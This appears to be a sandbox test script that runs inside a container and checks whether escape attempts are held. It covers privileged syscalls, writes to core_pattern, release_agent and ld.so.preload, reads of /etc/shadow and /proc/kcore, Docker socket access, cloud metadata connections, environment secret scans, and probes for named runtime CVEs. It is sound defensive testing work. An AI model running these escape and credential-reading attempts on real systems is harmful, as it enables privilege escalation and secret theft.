"""escape_attempts: what code in a sandbox tries in order to get out; sent into one and run there, as a session's code.

Each attempt runs in a process of its own. It returns what it got when it got something, and raises or returns None when
it was held. Standard library only. The last line printed is one JSON object: name -> "" when held, else what it got.
"""
# What an attacker writes: a path may be anything, and a Path object would hide the call.
# ruff: noqa: PTH101, PTH102, PTH108, PTH110, PTH112, PTH114, PTH116, PTH118, PTH123, PTH208, PTH211

from __future__ import annotations

import array
import contextlib
import ctypes
import errno
import json
import mmap
import os
import pty
import signal
import socket
import stat
import sys
from collections.abc import Callable
from pathlib import Path

HOST_PORTS: list[int] = []  # filled in by the test: where the host's loopback has listeners
ATTEMPTS: dict[str, Callable[[], object]] = {}
LIBC = ctypes.CDLL(None, use_errno=True)
NAMESPACES = {"user": 0x10000000, "mnt": 0x20000, "net": 0x40000000, "pid": 0x20000000, "ipc": 0x8000000} | {
    "uts": 0x4000000,
    "cgroup": 0x2000000,
    "time": 0x80,
}
# Numbers of amd64.
CALLS = {
    "io_uring_setup": (425, 8, ctypes.create_string_buffer(256)),
    "io_uring_register": (427, 0, 0, 0, 0),
    "bpf": (321, 0, ctypes.create_string_buffer(128), 128),
    "perf_event_open": (298, ctypes.create_string_buffer(b"\0" * 4 + b"\x70", 128), 0, -1, -1, 0),
    "userfaultfd": (323, 0),
    "keyctl": (250, 0, -3, 0),
    "add_key": (248, b"user", b"mine", b"x", 1, -3),
    "request_key": (249, b"user", b"mine", 0, -3),
    "init_module": (175, b"", 0, b""),
    "finit_module": (313, 0, b"", 0),
    "delete_module": (176, b"x", 0),
    "kexec_load": (246, 0, 0, 0, 0),
    "kexec_file_load": (320, -1, -1, 0, 0, 0),
    "reboot": (169, 0xFEE1DEAD, 672274793, 0, 0),
    "mount": (165, b"none", b"/workspace", b"tmpfs", 0, 0),
    "umount2": (166, b"/proc/kcore", 2),
    "pivot_root": (155, b"/workspace", b"/workspace"),
    "chroot": (161, b"/workspace"),
    "open_tree": (428, -100, b"/", 1),
    "move_mount": (429, -100, b"/", -100, b"/tmp", 0),
    "fsopen": (430, b"tmpfs", 0),
    "fsmount": (432, 0, 0, 0),
    "mount_setattr": (442, -100, b"/", 0, 0, 0),
    "swapon": (167, b"/workspace/x", 0),
    "swapoff": (168, b"/workspace/x"),
    "syslog (dmesg)": (103, 3, ctypes.create_string_buffer(4096), 4096),
    "sethostname": (170, b"owned", 5),
    "setdomainname": (171, b"owned", 5),
    "settimeofday": (164, ctypes.create_string_buffer(16), 0),
    "clock_settime": (227, 0, ctypes.create_string_buffer(16)),
    "clock_adjtime": (305, 0, ctypes.create_string_buffer(256)),
    "adjtimex": (159, ctypes.create_string_buffer(256)),
    "iopl": (172, 3),
    "ioperm": (173, 0, 1, 1),
    "acct": (163, b"/workspace/acct"),
    "quotactl": (179, 0x800001 << 8, 0, 0, 0),
    "name_to_handle_at": (
        303,
        -100,
        b"/etc/hostname",
        ctypes.create_string_buffer(b"\x80", 256),
        ctypes.byref(ctypes.c_int()),
        0,
    ),
    "open_by_handle_at (shocker)": (304, 3, ctypes.create_string_buffer(b"\x08\0\0\0\x01\0\0\0\x02", 64), 0),
    "fanotify_init": (300, 0, 0),
    "lookup_dcookie": (212, 0, ctypes.create_string_buffer(64), 64),
    "process_vm_readv": (310, 1, 0, 0, 0, 0, 0),
    "process_vm_writev": (311, 1, 0, 0, 0, 0, 0),
    "kcmp": (312, 1, 1, 0, 0, 0),
    "pidfd_getfd": (438, 0, 0, 0),
    "process_madvise": (440, 0, 0, 0, 0, 0),
    "ptrace TRACEME": (101, 0, 0, 0, 0),
    "ptrace SEIZE of the init": (101, 0x4206, 1, 0, 0),
    "modify_ldt": (154, 0, ctypes.create_string_buffer(16), 16),
    "move_pages": (279, 0, 0, 0, 0, 0, 0),
    "migrate_pages": (256, 0, 0, 0, 0),
    "mbind": (237, 0, 0, 0, 0, 0, 0),
    "memfd_secret": (447, 0),
    "uselib": (134, b"/bin/sh"),
    "ustat": (136, 0, ctypes.create_string_buffer(64)),
    "sysfs": (139, 3),
    "vhangup": (153,),
    "nfsservctl": (180, 0, 0, 0),
    "mq_open": (240, b"mine", 0o102, 0o600, 0),
    "io_setup": (206, 8, ctypes.byref(ctypes.c_ulong())),
    "vmsplice of no pipe": (278, -1, 0, 0, 0),
    "personality ADDR_NO_RANDOMIZE": (135, 0x0040000),
    "personality READ_IMPLIES_EXEC": (135, 0x0400000),
    "clone3 with a new user namespace": (435, ctypes.create_string_buffer((0x10000000).to_bytes(8, "little"), 88), 88),
    "setuid 0": (105, 0),
    "setgid 0": (106, 0),
    "setresuid 0": (117, 0, 0, 0),
    "setgroups 0": (116, 1, ctypes.byref(ctypes.c_int(0))),
    "setfsuid 0, and it sticks": (122, 0),
    "x32 getpid": (0x40000000 | 39,),
}
WRITES = (
    *(
        "/proc/sys/kernel/core_pattern",
        "/proc/sys/kernel/hostname",
        "/proc/sys/kernel/modprobe",
        "/proc/sys/vm/panic_on_oom",
    ),
    *("/proc/sys/kernel/yama/ptrace_scope", "/proc/sys/fs/binfmt_misc/register", "/proc/sys/kernel/sysrq"),
    *("/proc/sys/net/ipv4/ip_forward", "/proc/sysrq-trigger", "/proc/irq/default_smp_affinity", "/proc/mtrr"),
    *(
        "/sys/kernel/uevent_helper",
        "/sys/kernel/mm/transparent_hugepage/enabled",
        "/sys/power/state",
        "/sys/block/vda/uevent",
    ),
    *("/sys/class/net/lo/mtu", "/sys/firmware/x", "/sys/module/x", "/sys/fs/cgroup/memory/memory.limit_in_bytes"),
    *("/sys/fs/cgroup/memory/cgroup.procs", "/sys/fs/cgroup/memory/release_agent", "/sys/fs/cgroup/rdma/release_agent"),
    *("/sys/fs/cgroup/pids/pids.max", "/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/devices/devices.allow"),
    *("/etc/hosts", "/etc/resolv.conf", "/etc/hostname", "/etc/passwd", "/etc/ld.so.preload", "/usr/bin/bash", "/x"),
    *(
        "/usr/sbin/docker-init",
        "/opt/venv/bin/python",
        "/run/toolrunner/x",
        "/run/toolrunner/mcp.sock",
        "/dev/x",
        "/root/x",
    ),
    *(
        "/dev/mem",
        "/dev/kmsg",
        "/dev/port",
        "/dev/sda",
        "/dev/vda",
        "/dev/kvm",
        "/dev/fuse",
        "/dev/net/tun",
        "/dev/loop-control",
    ),
)
READS = (
    *(
        "/etc/shadow",
        "/proc/kcore",
        "/proc/kmsg",
        "/proc/kallsyms",
        "/proc/keys",
        "/proc/key-users",
        "/proc/sched_debug",
    ),
    *("/proc/timer_list", "/proc/slabinfo", "/proc/vmallocinfo", "/proc/iomem", "/proc/modules", "/proc/cmdline"),
    *(
        "/proc/interrupts",
        "/proc/partitions",
        "/proc/config.gz",
        "/proc/kpageflags",
        "/proc/kpagecount",
        "/proc/latency_stats",
    ),
    *(
        "/proc/sysvipc/shm",
        "/proc/scsi/scsi",
        "/proc/acpi/wakeup",
        "/sys/firmware/dmi/tables/DMI",
        "/sys/class/dmi/id/product_uuid",
    ),
    *(
        "/sys/kernel/notes",
        "/sys/kernel/debug/x",
        "/sys/kernel/tracing/trace",
        "/sys/kernel/security/lockdown",
        "/sys/module/kernel",
    ),
    *(
        "/sys/kernel/vmcoreinfo",
        "/sys/hypervisor/uuid",
        "/sys/devices/virtual/dmi/id/product_serial",
        "/sys/power/state",
    ),
)
SOCKETS = (
    *(
        "/var/run/docker.sock",
        "/run/docker.sock",
        "/run/containerd/containerd.sock",
        "/run/crio/crio.sock",
        "/run/dbus/system_bus_socket",
    ),
    *("/run/loopbox/control.sock", "/run/broker/broker.sock", "/run/egress/control.sock", "/run/systemd/private"),
)
FAMILIES = {
    "AF_ALG": (38, 5, 0),
    "AF_VSOCK": (40, 1, 0),
    "AF_PACKET": (17, 3, 0),
    "AF_KEY": (15, 3, 2),
    "AF_CAN": (29, 3, 1),
} | {
    "AF_BLUETOOTH": (31, 3, 1),
    "AF_TIPC": (30, 2, 0),
    "AF_RDS": (21, 5, 0),
    "AF_XDP": (44, 3, 0),
    "AF_NFC": (39, 3, 0),
    "NETLINK_AUDIT": (16, 3, 9),
    "NETLINK_KOBJECT_UEVENT": (16, 3, 15),
    "NETLINK_NETFILTER": (16, 3, 12),
    "NETLINK_XFRM": (16, 3, 6),
    "raw ICMP": (2, 3, 1),
    "raw ICMPv6": (10, 3, 58),
}
ADDRESSES = (
    *(("169.254.169.254", 80), ("169.254.170.2", 80), ("100.100.100.200", 80), ("168.63.129.16", 80), ("1.1.1.1", 53)),
    *(("8.8.8.8", 443), ("172.17.0.1", 80), ("172.18.0.1", 8081), ("10.0.0.1", 22), ("192.168.0.1", 80)),
    *(("fd00:ec2::254", 80), ("2606:4700:4700::1111", 53), ("fe80::1", 80)),
)
DEVICES = frozenset(
    {
        "core",
        "fd",
        "full",
        "mqueue",
        "null",
        "ptmx",
        "pts",
        "random",
        "shm",
        "stderr",
        "stdin",
        "stdout",
        "tty",
        "urandom",
        "zero",
    }
    | {"console"}
)


def attempt(name: str) -> Callable[[Callable[[], object]], Callable[[], object]]:
    """Name an attempt."""

    def take(function: Callable[[], object]) -> Callable[[], object]:
        ATTEMPTS[name] = function
        return function

    return take


def call(number: int, *arguments: object) -> int:
    """Make a system call. Raises OSError."""
    result = int(LIBC.syscall(ctypes.c_long(number), *arguments))
    if result == -1:
        raise OSError(ctypes.get_errno(), "refused")
    return result


def called(arguments: tuple[object, ...]) -> object:
    result = call(*arguments)  # type: ignore[arg-type]  # the first of each is its number
    if arguments[0] == 122:  # setfsuid answers with what was before, and fails without a word
        result = call(122, -1)
        return f"fsuid is {result}" if result == 0 else None
    return f"answered {result}"


def written(path: str) -> object:
    with open(path, "ab") as file:
        if os.fstat(file.fileno()).st_rdev == os.makedev(1, 3):  # a masked file is /dev/null
            return None
        file.write(b"\n")
    return "it was written"


def read(path: str) -> object:
    """Masked files are there and empty; masked folders are empty, too."""
    if os.path.isdir(path):
        found = os.listdir(path)
    else:
        with open(path, "rb") as file:
            found = file.read(64)  # type: ignore[assignment]  # either is something or nothing
    return found or None


def connected_unix(path: str) -> object:
    with socket.socket(socket.AF_UNIX) as made:
        made.connect(path)
    return "it answered"


def made_socket(family: int, kind: int, protocol: int) -> object:
    socket.socket(family, kind, protocol).close()
    return "it was made"


def connected(host: str, port: int, kinds: tuple[int, ...] = (socket.SOCK_STREAM, socket.SOCK_DGRAM)) -> object:
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    for kind in kinds:
        with contextlib.suppress(OSError), socket.socket(family, kind) as made:
            made.settimeout(1)
            made.connect((host, port))
            made.send(b"x")
            return "it was sent to"
    return None


def entered(flag: int) -> object:
    call(272, flag)  # unshare
    return "a namespace of its own"


def cloned(flag: int) -> object:
    pid = call(56, flag | signal.SIGCHLD, 0, 0, 0, 0)
    if pid == 0:
        os._exit(0)
    return "a process in a namespace of its own"


def joined(name: str) -> object:
    handle = os.open(f"/proc/1/ns/{name}", os.O_RDONLY)
    call(308, handle, 0)  # setns
    return "it was joined"


for _name, _arguments in CALLS.items():
    ATTEMPTS[f"call {_name}"] = lambda a=_arguments: called(a)  # type: ignore[misc]  # bound now
for _path in WRITES:
    ATTEMPTS[f"write {_path}"] = lambda p=_path: written(p)  # type: ignore[misc]
for _path in READS:
    ATTEMPTS[f"read {_path}"] = lambda p=_path: read(p)  # type: ignore[misc]
for _path in SOCKETS:
    ATTEMPTS[f"connect {_path}"] = lambda p=_path: connected_unix(p)  # type: ignore[misc]
for _name, _what in FAMILIES.items():
    ATTEMPTS[f"socket {_name}"] = lambda w=_what: made_socket(*w)  # type: ignore[misc]
for _address in ADDRESSES:
    ATTEMPTS[f"send to {_address[0]}"] = lambda a=_address: connected(*a)  # type: ignore[misc]
for _name, _flag in NAMESPACES.items():
    ATTEMPTS[f"unshare {_name}"] = lambda f=_flag: entered(f)  # type: ignore[misc]
    ATTEMPTS[f"setns {_name}"] = lambda n=_name: joined(n)  # type: ignore[misc]
    if _name != "time":  # whose bit means a signal number in clone()
        ATTEMPTS[f"clone {_name}"] = lambda f=_flag: cloned(f)  # type: ignore[misc]


@attempt("the host's loopback")
def host_loopback() -> object:
    return [port for port in HOST_PORTS if connected("127.0.0.1", port, (socket.SOCK_STREAM,))] or None


@attempt("resolve a name")
def resolve() -> object:
    return socket.getaddrinfo("example.org", 80)


@attempt("other interfaces than lo")
def interfaces() -> object:
    return [name for _, name in socket.if_nameindex() if name != "lo"] or None


@attempt("abstract sockets of others")
def abstract() -> object:
    lines = Path("/proc/net/unix").read_text().splitlines()[1:]
    return [line for line in lines if "@" in line] or None


@attempt("other sockets in the file system")
def sockets() -> object:
    found = [
        os.path.join(at, name)
        for top in ("/run", "/var", "/tmp", "/workspace")
        for at, _, names in os.walk(top)
        for name in names
    ]
    ours = ("/run/toolrunner/mcp.sock",)
    return [path for path in found if path not in ours and stat.S_ISSOCK(os.lstat(path).st_mode)] or None


@attempt("list the sockets' folder")
def list_sockets() -> object:
    return os.listdir("/run/toolrunner")


@attempt("put a link in the socket's place")
def replace_socket() -> object:
    os.symlink("/etc", "/run/toolrunner/link")
    return "it was made"


@attempt("remove the socket")
def remove_socket() -> object:
    os.unlink("/run/toolrunner/mcp.sock")
    return "it is gone"


@attempt("another root behind /proc")
def other_root() -> object:
    own = os.stat("/")
    for pid in filter(str.isdecimal, os.listdir("/proc")):
        for way in ("root", "cwd/../../../../.."):
            with contextlib.suppress(OSError):
                seen = os.stat(f"/proc/{pid}/{way}")
                if (seen.st_dev, seen.st_ino) != (own.st_dev, own.st_ino):
                    return f"/proc/{pid}/{way}"
    return None


@attempt("folders of the host by open descriptors")
def descriptors() -> object:
    """CVE-2024-21626: a descriptor of the host's, leaked by the runtime."""
    own = os.stat("/").st_dev
    for pid in filter(str.isdecimal, os.listdir("/proc")):
        with contextlib.suppress(OSError):
            for handle in os.listdir(f"/proc/{pid}/fd"):
                with contextlib.suppress(OSError):
                    path = f"/proc/{pid}/fd/{handle}"
                    if stat.S_ISDIR(os.stat(path).st_mode) and os.stat(f"{path}/../../../..").st_dev != own:
                        return path
    return None


@attempt("the working folder, upwards")
def upwards() -> object:
    seen, own = os.stat("../" * 40), os.stat("/")
    return None if (seen.st_dev, seen.st_ino) == (own.st_dev, own.st_ino) else "another root"


@attempt("the server's memory and environment")
def server_memory() -> object:
    found = []
    for pid in filter(str.isdecimal, os.listdir("/proc")):
        with contextlib.suppress(OSError):
            words = Path(f"/proc/{pid}/cmdline").read_bytes()
            if pid != "1" and b"loopbox_toolrunner" in words and b"escape_attempts" not in words:
                for name in ("mem", "environ", "maps", "fd", "auxv", "syscall", "stack"):
                    with contextlib.suppress(OSError):
                        read(f"/proc/{pid}/{name}") and found.append(f"{pid}/{name}")  # type: ignore[func-returns-value]
    return found or None


@attempt("write to programs that run")
def running_programs() -> object:
    """CVE-2019-5736: the runtime's own program, by /proc/PID/exe. Busy is not the same as refused."""
    for pid in filter(str.isdecimal, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/exe", "ab"):
                return pid
        except OSError as error:
            if error.errno == errno.ETXTBSY:
                return f"{pid}: only busy"
    return None


@attempt("processes of others")
def processes() -> object:
    """Of the host there would be more than a hundred; its init and loopd would be named."""
    found = []
    for pid in filter(str.isdecimal, os.listdir("/proc")):
        with contextlib.suppress(OSError):
            words = Path(f"/proc/{pid}/cmdline").read_bytes()
            if b"escape_attempts" in words:  # these very lines, as the argument of their interpreter
                continue
            if any(word in words for word in (b"dockerd", b"containerd", b"systemd", b"loopd", b"haproxy", b"ollama")):
                found.append(words.decode(errors="replace"))
    return found or None


@attempt("capabilities, privileges, filter")
def status() -> object:
    told = dict(line.split(":\t", 1) for line in Path("/proc/self/status").read_text().splitlines() if ":\t" in line)
    held = [told[name] for name in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb")]
    wrong = [name for name in held if int(name, 16)]
    return wrong or (None if (told["NoNewPrivs"], told["Seccomp"], os.getuid()) == ("1", "2", 10003) else told)


@attempt("capset")
def capset() -> object:
    header, data = array.array("I", [0x20080522, 0]), array.array("I", [0xFFFFFFFF] * 6)
    call(126, ctypes.c_void_p(header.buffer_info()[0]), ctypes.c_void_p(data.buffer_info()[0]))
    return "it was taken"


@attempt("setuid programs and file capabilities")
def setuid_programs() -> object:
    found = []
    for top in ("/usr", "/opt", "/bin", "/sbin"):
        for at, _, names in os.walk(top):
            for name in names:
                path = os.path.join(at, name)
                with contextlib.suppress(OSError):
                    if os.lstat(path).st_mode & 0o6000 and not os.path.islink(path):
                        found.append(path)
                    if "security.capability" in os.listxattr(path, follow_symlinks=False):
                        found.append(path)
    return found or None


@attempt("a setuid program of its own")
def own_setuid() -> object:
    with open("/workspace/id", "wb") as file:
        file.write(Path("/usr/bin/id").read_bytes())
    os.chmod("/workspace/id", 0o6755)  # noqa: S103 the attempt itself
    with os.popen("/workspace/id -u") as told:  # noqa: S605 in the sandbox
        return None if told.read().strip() == "10003" else "another user"


@attempt("device nodes")
def nodes() -> object:
    for name, mode, device in (
        ("vda", stat.S_IFBLK, (254, 0)),
        ("mem", stat.S_IFCHR, (1, 1)),
        ("kmsg", stat.S_IFCHR, (1, 11)),
    ):
        with contextlib.suppress(OSError):
            os.mknod(f"/workspace/{name}", mode | 0o600, os.makedev(*device))
            return name
    return None


@attempt("devices that no program needs")
def devices() -> object:
    return sorted(set(os.listdir("/dev")) - DEVICES) or None


@attempt("a smaller chance to be killed for want of memory")
def oom() -> object:
    Path("/proc/self/oom_score_adj").write_text("-1000")
    return "it was lowered"


@attempt("a higher priority")
def priority() -> object:
    os.setpriority(os.PRIO_PROCESS, 0, -10)
    return "it was taken"


@attempt("real-time scheduling")
def realtime() -> object:
    os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(50))
    return "it was taken"


@attempt("more open files than allowed")
def files() -> object:
    import resource  # noqa: PLC0415 in the sandbox alone

    resource.setrlimit(resource.RLIMIT_NOFILE, (1 << 20, 1 << 20))
    return "it was raised"


@attempt("type into a terminal (TIOCSTI)")
def tiocsti() -> object:
    _, slave = pty.openpty()
    call(16, slave, ctypes.c_ulong(0x5412), ctypes.c_char_p(b"x"))
    return "it was typed"


@attempt("type into a terminal, request disguised by its upper half")
def tiocsti_wide() -> object:
    """The kernel looks at 32 bits of the request; a filter that compares 64 can be passed by (CVE-2019-10063)."""
    _, slave = pty.openpty()
    call(16, slave, ctypes.c_ulong((1 << 32) | 0x5412), ctypes.c_char_p(b"x"))
    return "it was typed"


@attempt("the console's paste buffer (TIOCLINUX)")
def tioclinux() -> object:
    _, slave = pty.openpty()
    call(16, slave, ctypes.c_ulong(0x541C), ctypes.c_char_p(b"\x03"))
    return "it was taken"


@attempt("i386 calls")
def i386() -> object:
    """mov eax, 20 (getpid); int 0x80; ret."""
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(b"\xb8\x14\x00\x00\x00\xcd\x80\xc3")
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    return f"answered {ctypes.CFUNCTYPE(ctypes.c_int)(address)()}"


@attempt("cgroup: a release agent of its own")
def release_agent() -> object:
    """CVE-2022-0492."""
    for top in ("/sys/fs/cgroup", "/workspace"):
        with contextlib.suppress(OSError):
            for name in os.listdir(top):
                os.mkdir(f"{top}/{name}/x")
                return name
    return None


@attempt("mounts that can be written to")
def mounts() -> object:
    allowed = ("/workspace", "/tmp", "/dev/shm", "/dev/pts", "/proc")
    found = []
    for line in Path("/proc/self/mountinfo").read_text().splitlines():
        target = line.split()[4]
        with contextlib.suppress(OSError):
            if not target.startswith(allowed) and os.path.isdir(target):
                Path(target, "x").write_text("x")
                found.append(target)
    return found or None


@attempt("secrets in the environment")
def environment() -> object:
    text = "\n".join(f"{key}={value}" for key, value in os.environ.items())
    with contextlib.suppress(OSError):
        text += Path("/proc/1/environ").read_text(errors="replace")
    return [
        word for word in ("TOKEN", "SECRET", "PASSWORD", "KEY=", "DOCKER_HOST", "LOOPBOX_") if word in text.upper()
    ] or None


@attempt("overlay's folders on the host")
def overlay() -> object:
    """Their names are told; they must not be reachable."""
    lines = [line for line in Path("/proc/self/mounts").read_text().splitlines() if line.startswith("overlay / ")]
    names = [
        part.partition("=")[2] for line in lines for part in line.split()[3].split(",") if part.startswith("upperdir=")
    ]
    return [name for name in names if os.path.exists(name)] or None


def outcome(function: Callable[[], object]) -> str:
    """Run an attempt in a process of its own; return what it got, '' when it was held."""
    out, into = os.pipe()
    pid = os.fork()
    if pid == 0:
        signal.alarm(5)
        try:
            got = function()
        except BaseException:  # noqa: BLE001 whatever holds it
            got = None
        os.write(into, repr(got).encode()[:400] if got is not None else b"")
        os._exit(0)
    os.close(into)
    with os.fdopen(out, "rb") as file:
        got = file.read().decode()
    os.waitpid(pid, 0)
    return got


if __name__ == "__main__":
    sys.stdout.write(json.dumps({name: outcome(function) for name, function in ATTEMPTS.items()}) + "\n")
